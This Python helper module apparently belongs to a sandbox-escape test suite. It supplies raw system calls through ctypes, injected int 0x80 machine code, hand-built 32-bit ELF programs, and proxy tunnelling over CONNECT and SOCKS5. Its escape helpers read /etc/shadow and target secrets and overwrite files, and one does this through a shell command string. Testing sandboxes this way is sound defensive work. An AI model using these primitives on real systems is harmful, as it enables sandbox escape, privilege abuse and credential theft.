"""What every payload shares: raw system calls, where the host's canaries are, and how an attempt is told.

The runner believes its own canaries. The lines printed here say that an attempt was made (`@tried`), which
proves the case ran at all, and that one succeeded (`@reached`), for calls that leave no trace on the host.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

TARGETS = json.loads(Path("targets.json").read_text())
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
LIBC.mmap.restype = ctypes.c_void_p
KEPT = []

# x86_64 numbers, from the kernel's arch/x86/entry/syscalls/syscall_64.tbl
NR = {
    "madvise": 28, "shmget": 29, "shmat": 30, "semget": 64, "msgget": 68, "msgrcv": 70, "clone": 56, "ptrace": 101, "syslog": 103,
    "setpgid": 109, "capset": 126, "mknod": 133, "personality": 135, "sched_setscheduler": 144, "mlock": 149,
    "mlockall": 151, "vhangup": 153, "modify_ldt": 154, "pivot_root": 155, "adjtimex": 159, "chroot": 161,
    "acct": 163, "settimeofday": 164, "mount": 165, "umount2": 166, "swapon": 167, "swapoff": 168, "reboot": 169,
    "sethostname": 170, "setdomainname": 171, "iopl": 172, "ioperm": 173, "init_module": 175, "delete_module": 176,
    "quotactl": 179, "setxattr": 188, "clock_settime": 227, "mbind": 237, "set_mempolicy": 238, "mq_open": 240,
    "mq_timedreceive": 243, "kexec_load": 246, "add_key": 248, "request_key": 249, "keyctl": 250, "ioprio_set": 251,
    "migrate_pages": 256, "openat": 257, "mknodat": 259, "unshare": 272, "vmsplice": 278, "move_pages": 279,
    "perf_event_open": 298, "fanotify_init": 300, "prlimit64": 302, "name_to_handle_at": 303,
    "open_by_handle_at": 304, "clock_adjtime": 305, "setns": 308, "process_vm_readv": 310, "process_vm_writev": 311,
    "kcmp": 312, "finit_module": 313, "sched_setattr": 314, "seccomp": 317, "memfd_create": 319,
    "kexec_file_load": 320, "bpf": 321, "execveat": 322, "userfaultfd": 323, "pidfd_send_signal": 424,
    "io_uring_setup": 425, "io_uring_enter": 426, "io_uring_register": 427, "open_tree": 428, "move_mount": 429,
    "fsopen": 430, "fsmount": 432, "fspick": 433, "pidfd_open": 434, "clone3": 435, "openat2": 437,
    "pidfd_getfd": 438, "process_madvise": 440, "mount_setattr": 442, "quotactl_fd": 443,
    "landlock_create_ruleset": 444, "landlock_restrict_self": 446, "memfd_secret": 447, "process_mrelease": 448,
    "set_mempolicy_home_node": 450,
}
AT_FDCWD = -100 & 0xFFFFFFFFFFFFFFFF


def say(kind, detail=""):
    """One line of the payload's own account, written past Python's buffers."""
    os.write(1, f"@{kind} {detail}\n".encode(errors="replace"))


def tried():
    say("tried")


def reached(detail=""):
    say("reached", detail)


def loot(data):
    """What was stolen: the runner looks for its tokens in it."""
    text = data.encode() if isinstance(data, str) else bytes(data)
    os.write(1, b"@loot " + text + b"\n")


def attempt(action, reach=()):
    """Try `action`; a true result, or an errno that only the code behind the permission check gives, is a success."""
    tried()
    try:
        outcome = action()
    except OSError as error:
        name = errno.errorcode.get(error.errno, str(error.errno))
        say("reached" if name in reach else "denied", f"{name} {error}")
    except Exception as error:
        say("denied", repr(error))
    else:
        say("reached" if outcome is not None and outcome is not False else "denied", repr(outcome)[:300])


def attempt_each(actions):
    """Several ways to one end: each is tried, whatever became of the one before."""
    for action in actions:
        attempt(action)


def sc(call, *args):
    """A system call past every wrapper; raises OSError."""
    number = NR[call] if isinstance(call, str) else call
    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_ulong(number), *[ctypes.c_ulong(arg & 0xFFFFFFFFFFFFFFFF) for arg in args])
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def buf(data=b"", size=0):
    """The address of memory holding `data`, zero-padded to `size`."""
    if isinstance(data, str):
        data = data.encode() + b"\0"
    block = ctypes.create_string_buffer(data, max(size, len(data), 1))
    KEPT.append(block)
    return ctypes.addressof(block)


def at(address, size):
    return ctypes.string_at(address, size)


def low_buf(data):
    """As `buf`, below 4 GiB, for 32-bit calls."""
    address = LIBC.mmap(None, 4096, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)
    ctypes.memmove(address, data, len(data))
    return address


def int80(number, *args):
    """A system call through the 32-bit gate, from a few bytes of machine code."""
    code = bytes.fromhex("53 55 89f8 89f3 4189ca 89d1 4489d2 4489c6 4489cf 31ed cd80 4898 5d 5b c3")
    page = LIBC.mmap(None, 4096, 3, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
    ctypes.memmove(page, code, len(code))
    if LIBC.mprotect(ctypes.c_void_p(page), 4096, 5) != 0:
        raise OSError(ctypes.get_errno(), "mprotect")
    gate = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_ulong] * 6)(page)
    result = gate(*([number, *args] + [0] * 6)[:6])
    if -4096 < result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


def elf32(number, ebx=0, ecx=0, edx=0, data=b""):
    """A static 32-bit program that makes one call (`ebx` may be "data") and exits 43 if it succeeded, 42 if not."""
    base, start = 0x08048000, 84
    tail = bytes.fromhex("89c3 c1eb1f 83f301 83c32a b801000000 cd80")
    place = base + start + 22 + len(tail)
    first = place if ebx == "data" else ebx
    body = b"".join(op + struct.pack("<I", value) for op, value in
                    ((b"\xb8", number), (b"\xbb", first), (b"\xb9", ecx), (b"\xba", edx))) + b"\xcd\x80"
    image = body + tail + data
    size = start + len(image)
    head = b"\x7fELF\x01\x01\x01" + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 2, 3, 1, base + start, 52, 0, 0, 52, 32, 1, 0, 0, 0)
    return head + struct.pack("<IIIIIIII", 1, 0, base, base, size, size, 7, 4096) + image


def run_elf(image):
    """Exit code 43 of a program given as bytes, run from the workspace."""
    Path("program").write_bytes(image)
    os.chmod("program", 0o755)
    done = subprocess.run(["./program"], check=False)
    say("exit", done.returncode)
    return True if done.returncode == 43 else None


def clone_child(flags, call="clone"):
    """A child made by raw clone; the child leaves at once, the parent learns its pid."""
    pid = sc(call, flags | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


def iovec(address, size):
    return buf(struct.pack("QQ", address, size))


def write_over(path, data=b"attacked"):
    with open(path, "r+b", buffering=0) as file:
        return file.write(data)


def read_some(path, size=4096):
    """The first bytes of a file, or None when there are none but zeros."""
    with open(path, "rb", buffering=0) as file:
        data = file.read(size)
    if data and data.strip(b"\0 \n"):
        loot(data[:512])
        return len(data)
    return None


def connect(family, address, kind=socket.SOCK_STREAM, protocol=0):
    """Connect and take what the other end says."""
    with socket.socket(family, kind, protocol) as link:
        link.settimeout(0.7)
        link.connect(address)
        if kind == socket.SOCK_DGRAM:
            link.send(b"attacked")
            return None
        loot(link.recv(200))
        return True


PROXY = ("127.0.0.1", 3128) if os.environ.get("http_proxy") else None


def plain(host):
    """Without a proxy, names of the suite lead to the host itself, and brackets are no part of an address."""
    return "127.0.0.1" if host.endswith(".test") else host.strip("[]")


def tunnel(host, port):
    """By CONNECT; where there is no proxy, straight."""
    if PROXY is None:
        with socket.create_connection((plain(host), port), 1) as link:
            return take(link)
    with socket.create_connection(PROXY, 2) as link:
        link.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode())
        answer = link.recv(4096)
        return take(link) if b" 200 " in answer.split(b"\r\n")[0] else None


def take(link):
    link.settimeout(0.7)
    try:
        loot(link.recv(100))
    except OSError:
        pass
    return True


def socks(host, port):
    """By SOCKS5, with the name for the proxy to look up."""
    if PROXY is None:
        return tunnel(host, port)
    with socket.create_connection(PROXY, 2) as link:
        link.sendall(b"\5\1\0")
        link.recv(2)
        link.sendall(b"\5\1\0\3" + bytes([len(host)]) + host.encode() + port.to_bytes(2, "big"))
        answer = link.recv(10)
        return take(link) if answer[1:2] == b"\0" else None


def page(host, port):
    """By a request to the proxy."""
    if PROXY is None:
        return tunnel(host, port)
    with socket.create_connection(PROXY, 2) as link:
        link.settimeout(1.5)
        link.sendall(f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        answer = link.recv(4096)
        loot(answer)
        return None if answer.startswith(b"HTTP/1.1 4") or answer.startswith(b"HTTP/1.1 502 ") or not answer else answer


WAYS = (tunnel, socks, page)


def escape_with(module):
    """The end of every way around an import rule: with `os` in hand, read the host's secret and touch its file."""
    tried()
    for path, flags in ((TARGETS["file"], os.O_RDONLY), (TARGETS["write"], os.O_WRONLY), ("/etc/shadow", os.O_RDONLY)):
        try:
            fd = module.open(path, flags)
            loot(module.read(fd, 2000)) if flags == os.O_RDONLY else module.write(fd, b"attacked")
        except OSError as error:
            say("denied", error)


def escape_by_shell(run):
    """As `escape_with`, where the way around ends in a shell."""
    tried()
    run(f"cat {TARGETS['file']} /etc/shadow; echo attacked > {TARGETS['write']}")
